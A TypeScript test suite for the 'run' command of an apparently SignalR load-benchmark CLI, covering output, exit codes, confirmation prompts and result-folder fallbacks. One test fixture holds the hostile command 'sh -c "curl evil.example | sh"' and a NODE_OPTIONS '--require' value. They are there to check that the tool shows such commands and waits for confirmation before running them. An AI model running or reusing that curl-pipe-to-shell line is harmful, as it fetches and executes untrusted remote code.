import assert from 'node:assert/strict';
import { mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { ExpectedError } from '../../../../src/base/expectedError';
import type { Result } from '../../../../src/results/result';
import { parseScenario } from '../../../../src/scenario/parseScenario';
import type { Scenario } from '../../../../src/scenario/scenario';
import type { OpenTarget } from '../../../../src/targets/target';
import { allowedRedirects } from '../../../../src/wire/socket/hosts';
import {
  sampleScenario,
  sampleSnapshot,
  sampleStep,
  sampleSummary,
} from '../../results/sampleResult';
import { commandLine, type CommandLine } from '../commandLine';
import { fakeDeps, fakeRun } from '../fakeDeps';

describe('run', () => {
  let at: CommandLine;
  let file: string;
  beforeEach(async () => {
    at = await commandLine();
    file = await at.file('chat-room.yaml', 'mode: simple\n');
  });
  afterEach(() => at.dispose());

  const deps = (scenario: Scenario) => ({
    parseScenario: () => ({ scenario, problems: [] }),
  });
  const remote = {
    ...deps({
      ...sampleScenario,
      target: { kind: 'hubUrl', urls: ['https://chat.example.com/hub'] },
    }),
    openTarget: async (): Promise<OpenTarget> => ({
      ...(await fakeDeps().openTarget({} as never, {} as never)),
      url: 'https://chat.example.com/hub',
      hostsBeyond: ['chat.example.com'],
    }),
  };

  it('runs, shows the last screen on standard output, and keeps the result', async () => {
    const { code, out, err, calls } = await at.run(['run', file]);
    assert.equal(code, 0);
    assert.match(out, /✓ passed; step 3/);
    assert.match(out, /result {4}\.signalr-bench\/2026-11-21T14-02-11-chat-room\n$/);
    assert.match(err, /^chat-room\.yaml → http:\/\/localhost:5050\/signalrbench\n/);
    assert.doesNotMatch(out + err, /␛/);
    assert.equal(calls.targetsOpen, 0);
    const folder = path.join(at.folder, '.signalr-bench', '2026-11-21T14-02-11-chat-room');
    assert.deepEqual((await readdir(folder)).sort(), [
      'result.json',
      'samples.jsonl',
      'scenario.yaml',
    ]);
    assert.equal(await readFile(path.join(folder, 'scenario.yaml'), 'utf8'), 'mode: simple\n');
    const samples = await readFile(path.join(folder, 'samples.jsonl'), 'utf8');
    assert.equal(samples.trimEnd().split('\n').length, 3);
  });

  it('warns before it starts of messages that no service takes, also of those that a search comes to', async () => {
    for (const [size, search] of [
      ['2MB', ''],
      ['1KB', 'search: { of: messageSize, from: 1KB, to: 2MB }'],
    ]) {
      const text = `${search}\nconfig: { target: local, service: webpubsub, connections: 10, baseSending: 1 }\nscenario: { name: restBroadcast, parameters: { messageSize: ${size} } }\n`;
      const large = await at.file('large.yaml', text);
      const { err, calls } = await at.run(['run', large], { deps: { parseScenario } });
      assert.match(
        err,
        /large\.yaml:\d+:\d+ warning message-size A message of restBroadcast is 2,/,
      );
      assert.equal(calls.runs.length, 1);
    }
  });

  it('says which numbers of processes there are', async () => {
    const { code, err } = await at.run(['run', file, '--processes', 'x']);
    assert.equal(code, 2);
    assert.match(err, /Expected auto, or a whole number from 1 to 256\./);
  });

  it('asks the file for a search by its flags, and can leave it out', async () => {
    const parsed: unknown[] = [];
    const deps = {
      parseScenario: (_text: string, given: unknown) => {
        parsed.push((given as { overrides: unknown }).overrides);
        const search = { of: 'rate', from: 1, to: 2, precision: 0.1, budgetMs: 1000 } as const;
        return { scenario: { ...sampleScenario, search }, problems: [] };
      },
    };
    const planned: unknown[] = [];
    const asked = {
      ...deps,
      notRunnable: ({ search }: Scenario) => void planned.push(search?.of),
    };
    await at.run(['run', file, '--search', 'rate', '--budget', '2m', '--precision', '3%'], {
      deps: asked,
    });
    await at.run(['run', file, '--search'], { deps: asked });
    await at.run(['run', file, '--no-search'], { deps: asked });
    assert.deepEqual(parsed, [
      [
        { path: 'search.of', value: 'rate' },
        { path: 'search.budget', value: '2m' },
        { path: 'search.precision', value: '3%' },
      ],
      [{ path: 'search', value: '' }],
      [{ path: 'search', value: 'false' }],
    ]);
    assert.deepEqual(planned, ['rate', 'rate', 'rate']);
    assert.equal((await at.run(['run', file, '--search', 'users'])).code, 2);
  });

  it('prints the result and nothing else with --json', async () => {
    const { code, out, err } = await at.run(['run', file, '--json', '--out', 'results']);
    assert.equal(code, 0);
    const result = JSON.parse(out) as Result;
    assert.equal(result.schema, 'signalr-bench-result/2');
    assert.equal(result.verdict.status, 'pass');
    assert.match(err, /✓ passed; step 3/);
    assert.deepEqual(await readdir(path.join(at.folder, 'results')), [result.id]);
  });

  it('redraws on a terminal and leaves only the last screen', async () => {
    const { err, out } = await at.run(['run', file], { terminal: true });
    assert.match(err, /␛\[\d+A\r␛\[J$/);
    assert.match(out, /␛\[32m✓ passed/);
    const plain = await at.run(['run', file], { terminal: true, env: { NO_COLOR: '1' } });
    assert.doesNotMatch(plain.out, /␛/);
    const dumb = await at.run(['run', file], { terminal: true, env: { TERM: 'dumb' } });
    assert.doesNotMatch(dumb.out + dumb.err, /␛/);
  });

  it('hands overrides to the parser and writes them into the scenario it keeps', async () => {
    const { calls } = await at.run([
      ...['run', file, '--set', 'config.connections=5', '--set', 'slo.p99=2s'],
      ...['--target', 'local', '--seed', '7', '--workers', '3', '--keep-going'],
    ]);
    assert.deepEqual(calls.overrides, [
      { path: 'config.connections', value: '5' },
      { path: 'slo.p99', value: '2s' },
      { path: 'config.target', value: 'local' },
      { path: 'config.seed', value: '7' },
      { path: 'config.workers', value: '3' },
    ]);
    assert.equal(calls.runs[0]?.keepGoing, true);
    const folder = path.join(at.folder, '.signalr-bench', '2026-11-21T14-02-11-chat-room');
    const text = await readFile(path.join(folder, 'scenario.yaml'), 'utf8');
    assert.match(text, /target: local\n {2}seed: 7\n {2}workers: 3\n/);
  });

  it('leaves one core to the rest of the machine', async () => {
    const { calls } = await at.run(['run', file]);
    assert.deepEqual(
      calls.runs.map(({ plan, keepGoing }) => [plan.workers.length, keepGoing]),
      [[3, false]],
    );
  });

  it('uses the embedded hub when the file names no target', async () => {
    const scenario: Scenario = { ...sampleScenario };
    delete (scenario as { target?: unknown }).target;
    const opened: unknown[] = [];
    const { code, out } = await at.run(['run', file, '--json'], {
      deps: {
        parseScenario: () => ({ scenario, problems: [] }),
        openTarget: (read, context) => {
          opened.push(read.target);
          return fakeDeps().openTarget(read, context);
        },
      },
    });
    assert.equal(code, 0);
    assert.deepEqual(opened, [{ kind: 'local' }]);
    assert.deepEqual((JSON.parse(out) as Result).scenario.target, { kind: 'local' });
  });

  it('counts the addresses connections are spread over', async () => {
    const urls = ['http://a:1/x', 'http://a:1/y?z', 'http://a:2/x', '${env:HUB}'];
    const counts: unknown[] = [];
    await at.run(['run', file], {
      deps: {
        parseScenario: () => ({
          scenario: { ...sampleScenario, target: { kind: 'hubUrl', urls } },
          problems: [],
        }),
        missingForRun: (_plan, _limits, addresses) => {
          counts.push(addresses);
          return undefined;
        },
      },
    });
    assert.deepEqual(counts, [3]);
  });

  describe('exit codes', () => {
    it('the generator as bottleneck: 4, with a result', async () => {
      const summary = sampleSummary({ steps: [sampleStep(1, { cpuShare: 1 })] });
      const deps = { startRun: () => fakeRun({ summary }) };
      const { code, out } = await at.run(['run', file, '--json'], { deps });
      assert.equal(code, 4);
      assert.ok(JSON.parse(out));
    });

    it('a defect: 5 with a stack', async () => {
      const { code, err, calls } = await at.run(['run', file], {
        deps: {
          startRun: () => {
            throw new TypeError('broken, AccessKey=abc');
          },
        },
      });
      assert.equal(code, 5);
      assert.match(err, /TypeError: broken, AccessKey=\(redacted\)\n {4}at /);
      assert.equal(calls.targetsOpen, 0);
    });
  });

  describe('what keeps it from starting', () => {
    const never: Parameters<CommandLine['run']>[1] = {
      deps: {
        startRun: () => assert.fail('must not start'),
      },
    };
    const refused = async (
      args: readonly string[],
      message: RegExp,
      options: Parameters<CommandLine['run']>[1] = {},
    ): Promise<void> => {
      const { code, out, err } = await at.run(args, {
        ...options,
        deps: { ...never.deps, ...options.deps },
      });
      assert.equal(code, 2);
      assert.equal(out, '');
      assert.match(err, message);
    };

    it('a file that is missing, a folder, binary, no UTF-8 or huge', async () => {
      await refused(['run', path.join(at.folder, 'no.yaml')], /^There is no file .*no\.yaml\.\n$/);
      await refused(['run', at.folder], /cannot be read: it is a folder/);
      const binary = await at.file('a.yaml', Uint8Array.of(1, 0, 2));
      await refused(['run', binary], /it is a binary file/);
      for (const bytes of [
        Buffer.from('\ufeffconfig:', 'utf16le'),
        Buffer.from('config:', 'utf16le'),
      ]) {
        const wide = await at.file('wide.yaml', bytes);
        await refused(['run', wide], /it is UTF-16 text\. Save it as UTF-8/);
        await refused(['run', await at.file('big.yaml', bytes.swap16())], /it is UTF-16 text/);
      }
      const latin = await at.file('b.yaml', Uint8Array.of(0x61, 0xe9, 0x62));
      await refused(['run', latin], /it is not UTF-8 text/);
      const huge = await at.file('c.yaml', '#'.repeat(2 * 1024 * 1024 + 1));
      await refused(['run', huge], /larger than 2 MB/);
    });

    it('errors in the file, each with its place', async () => {
      const text = await at.file('bad.yaml', 'mode: simple\nconfg: 1\n');
      await refused(['run', text], /bad\.yaml:2:1 error unknown-key no such key\n.*1 error/s, {
        deps: {
          parseScenario: () => ({
            problems: [
              {
                code: 'unknown-key',
                severity: 'error',
                message: 'no such key',
                offset: 13,
                length: 5,
              },
            ],
          }),
        },
      });
    });

    it('a use case that this version cannot run', () =>
      refused(['run', file], /^not yet\n$/, { deps: { notRunnable: () => 'not yet' } }));

    it('a machine that is too small', () =>
      refused(['run', file], /^10 descriptors are missing\n$/, {
        deps: { missingForRun: () => '10 descriptors are missing' },
      }));

    it('a target that cannot be opened', () =>
      refused(['run', file], /secret conn is missing/, {
        deps: {
          openTarget: () => Promise.reject(new ExpectedError('x', 'secret conn is missing')),
        },
      }));

    it('a result folder that cannot be written', async () => {
      const taken = await at.file('taken', '');
      await refused(['run', file, '--out', taken], /cannot be written below .*taken .*--out/);
    });

    it('another machine without --yes, where nobody can be asked', () =>
      refused(
        ['run', file],
        /chat\.example\.com\/hub is not on this machine.* 1,900 connections, up to 1,900 msg\/s in and 19,000 msg\/s out \(41\.8 MB\/s\), for about 3\.3 min.*--yes/,
        { deps: remote },
      ));

    it('a load that its recording did not have, also on this machine, without a yes', async () => {
      const unlikeRecording = '600 times the calls';
      const scenario = { ...sampleScenario, unlikeRecording };
      const deps = { parseScenario: () => ({ scenario, problems: [] }) };
      const said = /Each client makes 600 times the calls that were recorded: 1,900 connections/;
      await refused(['run', file], new RegExp(`${said.source}.* add --yes to run it`), { deps });
      await refused(['run', file], said, { deps, answer: 'n' });
      assert.equal((await at.run(['run', file], { deps, answer: 'y' })).code, 0);
      assert.equal((await at.run(['run', file, '--yes'], { deps })).code, 0);
    });

    it('a question that is not answered with yes', async () => {
      for (const answer of ['n', '', 'maybe']) {
        await refused(['run', file], /Not confirmed; nothing was started/, {
          answer,
          deps: remote,
        });
      }
    });

    it('a hub on this machine that redirects to another, where nobody can be asked', () =>
      refused(
        ['run', file],
        /signalr\.example \(http:\/\/localhost:5050\/signalrbench redirects there\) is not on this machine.*--yes/,
        { deps: { redirectHosts: () => Promise.resolve(['signalr.example']) } },
      ));

    for (const args of [
      ['run'],
      ['run', 'a', 'b'],
      ['run', 'a', '--set', 'novalue'],
      ['run', 'a', '--seed', '-1'],
      ['run', 'a', '--workers', '0'],
      ['run', 'a', '--nonsense'],
    ]) {
      it(`the command line ${args.join(' ')}`, () =>
        refused(args, /error: [\s\S]*--help shows what there is/));
    }
  });

  it('follows redirects to another machine after a yes, or with --yes; else to none', async () => {
    const started: (readonly string[] | undefined)[] = [];
    const startRun: ReturnType<typeof fakeDeps>['startRun'] = (plan, target, options) => {
      started.push(target.endpoint.allowedHosts);
      return fakeDeps().startRun(plan, target, options);
    };
    const redirectHosts = () => Promise.resolve(['signalr.example']);
    const asked = await at.run(['run', file], { answer: 'y', deps: { startRun, redirectHosts } });
    assert.deepEqual(asked.process.questions, ['Run it? [y/N] ']);
    assert.match(asked.err, /puts load on signalr\.example \(http:\/\/localhost:5050.* there\)/);
    const said = await at.run(['run', file, '--yes'], { deps: { startRun, redirectHosts } });
    const stays = await at.run(['run', file], { deps: { startRun } });
    assert.deepEqual([said.process.questions, stays.process.questions], [[], []]);
    assert.deepEqual(started, [allowedRedirects(['signalr.example']), undefined, []]);
  });

  it('runs against another machine after a yes, or with --yes', async () => {
    const asked = await at.run(['run', file], { answer: 'Y', deps: remote });
    assert.equal(asked.code, 0);
    assert.deepEqual(asked.process.questions, ['Run it? [y/N] ']);
    assert.match(asked.err, /puts load on https:\/\/chat\.example\.com\/hub/);
    const said = await at.run(['run', file, '--yes'], { deps: remote });
    assert.equal(said.code, 0);
    assert.deepEqual(said.process.questions, []);
  });

  describe('with a command in the scenario', () => {
    const words = ['sh', '-c', 'curl evil.example | sh'];
    const calling = (command: readonly string[], env = {}): Scenario => ({
      ...sampleScenario,
      identities: {
        ...{ kind: 'command', command, env, count: 2 },
        ...{ rate: 20, inFlight: 4, timeoutMs: 1000 },
      },
    });
    const opening = (scenario: Scenario) => {
      let opened = 0;
      const openTarget = (): never => {
        opened += 1;
        throw new ExpectedError('x', 'It was opened.');
      };
      return { deps: { ...deps(scenario), openTarget }, opened: () => opened };
    };

    it('shows it and opens nothing where nobody can be asked, on this machine, too', async () => {
      const { deps, opened } = opening(calling(words));
      const { code, err } = await at.run(['run', file], { deps });
      assert.equal(code, 2);
      assert.match(err, /the command sh -c "curl evil\.example \| sh", 2 times\. .*Add --yes/);
      assert.equal(opened(), 0);
      await at.run(['run', file, '--yes'], { deps });
      assert.equal(opened(), 1);
    });

    it('asks once for what it executes, and again for anything else', async () => {
      const env = { XDG_CONFIG_HOME: path.join(at.folder, 'config') };
      const asks = async (scenario: Scenario, answer = 'y', of = file): Promise<number> => {
        const run = await at.run(['run', of], { env, answer, ...opening(scenario) });
        return run.process.questions.length;
      };
      assert.equal(await asks(calling(words), 'n'), 1);
      assert.equal(await asks(calling(words)), 1);
      assert.equal(await asks(calling(words)), 0);
      assert.equal(await asks(calling([...words, 'x'])), 1);
      assert.equal(await asks(calling(words, { NODE_OPTIONS: '--require ./x.cjs' })), 1);
      assert.equal(await asks(calling(words, { NODE_OPTIONS: '--require ./y.cjs' })), 1);
      assert.equal(await asks(calling(words)), 0);
      // What `./login.sh` is depends on the folder.
      await mkdir(path.join(at.folder, 'other'));
      const copy = await at.file('other/chat-room.yaml', 'mode: simple\n');
      assert.equal(await asks(calling(words), 'y', copy), 1);
      assert.equal(await asks(calling(words), 'y', copy), 0);
      assert.equal(await asks(calling(words)), 0);
    });
  });

  describe('when the folder can no longer be written', () => {
    const results = (): string => path.join(at.folder, '.signalr-bench');
    const name = '2026-11-21T14-02-11-chat-room';
    const runThen = (act: () => Promise<void>, ...flags: string[]) =>
      at.run(['run', file, ...flags], {
        deps: {
          startRun: () => {
            const run = fakeRun({ snapshots: [sampleSnapshot(1)], summary: sampleSummary() });
            const finished = run.finished.then(async (summary) => {
              await act();
              return summary;
            });
            return { ...run, finished };
          },
        },
      });
    /** A file where folders were is as good as a full disk. */
    const fill = async (): Promise<void> => {
      await rm(results(), { recursive: true });
      await writeFile(results(), '');
    };

    it('keeps result, samples and scenario in a new one beside it', async () => {
      const { code, out, err } = await runThen(() =>
        mkdir(path.join(results(), name, 'result.json')),
      );
      assert.equal(code, 0);
      assert.match(err, /warning: The result cannot be written/);
      assert.match(err, /warning: The result was written to .*chat-room-2 instead\.\n$/);
      assert.match(out, /^result {4}\.signalr-bench\/2026-11-21T14-02-11-chat-room-2\n/m);
      const folder = path.join(results(), `${name}-2`);
      assert.deepEqual((await readdir(folder)).sort(), [
        'result.json',
        'samples.jsonl',
        'scenario.yaml',
      ]);
      const { id } = JSON.parse(await readFile(path.join(folder, 'result.json'), 'utf8')) as Result;
      assert.equal(id, `${name}-2`);
      assert.match(await readFile(path.join(folder, 'samples.jsonl'), 'utf8'), /^\{.*\}\n$/);
    });

    it('keeps them in the folder for temporary files when the disk is full', async () => {
      const before = process.env['TMPDIR'];
      process.env['TMPDIR'] = at.folder;
      try {
        const { code, out, err } = await runThen(fill, '--json');
        assert.equal(code, 0);
        const [, where = ''] = /The result was written to (.*) instead\.\n/.exec(err) ?? [];
        assert.ok(where.startsWith(path.join(at.folder, 'signalr-bench-')), err);
        assert.deepEqual(
          JSON.parse(await readFile(path.join(where, 'result.json'), 'utf8')),
          JSON.parse(out),
        );
        assert.ok(err.endsWith(`result    ${path.relative(at.folder, where)}\n`), err);
      } finally {
        if (before === undefined) delete process.env['TMPDIR'];
        else process.env['TMPDIR'] = before;
      }
    });

    it('prints what it has when it can be written nowhere, and says so', async () => {
      const before = process.env['TMPDIR'];
      process.env['TMPDIR'] = file;
      try {
        const { code, out, err } = await runThen(fill);
        assert.equal(code, 0);
        assert.match(
          err,
          /cannot be written below .*\. The result is not saved: this output is its only copy\.\n$/,
        );
        assert.match(out, /✓ passed/);
        assert.doesNotMatch(out, /^result/m);
      } finally {
        if (before === undefined) delete process.env['TMPDIR'];
        else process.env['TMPDIR'] = before;
      }
    });
  });
});
